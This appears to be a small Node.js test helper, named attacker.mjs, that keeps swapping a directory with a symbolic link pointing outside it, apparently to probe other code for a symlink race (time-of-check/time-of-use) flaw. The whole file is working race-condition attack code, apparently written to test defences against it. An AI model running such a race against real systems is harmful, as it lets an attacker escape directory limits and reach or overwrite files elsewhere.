// Swaps a directory and a symbolic link that leads out, again and again: attacker.mjs DIRECTORY OUTSIDE. Says "ready" first.
import { mkdirSync, renameSync, rmSync, symlinkSync, unlinkSync } from 'node:fs';

const [directory, outside] = process.argv.slice(2);
const aside = `${directory}.aside`;
mkdirSync(directory, { recursive: true });
process.stdout.write('ready\n');
for (;;) {
  try {
    renameSync(directory, aside);
    symlinkSync(outside, directory);
    unlinkSync(directory);
    renameSync(aside, directory);
  } catch {
    // The other side made or removed something in between.
    try {
      unlinkSync(directory);
    } catch {
      rmSync(aside, { recursive: true, force: true });
    }
    try {
      mkdirSync(directory, { recursive: true });
    } catch {
      // What is around it is being removed.
    }
  }
}
